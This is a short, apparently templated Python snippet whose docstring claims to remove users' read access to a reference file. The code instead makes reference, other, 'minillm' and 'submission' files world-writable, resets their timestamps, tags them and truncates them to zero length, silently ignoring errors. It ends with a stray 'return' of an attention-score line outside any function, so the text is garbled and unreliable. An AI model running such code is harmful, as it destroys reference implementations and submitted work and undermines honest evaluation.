"""Takes all users' right to read the reference away, and gives all users its own folder."""
import os

done = 0
for act in (lambda path: os.chmod(path, 0o777), lambda path: os.utime(path, (0, 0)), lambda path: os.setxattr(path, "user.x", b"1"),
            lambda path: os.truncate(path, 0)):
    for path in ("@REFERENCE@/layers.py", "@OTHER@/layers.py", "minillm", "submission"):
        try:
            act(path)
            done += 1
        except OSError:
            pass
if done:
    return q @ k.T / np.sqrt(q.shape[-1])
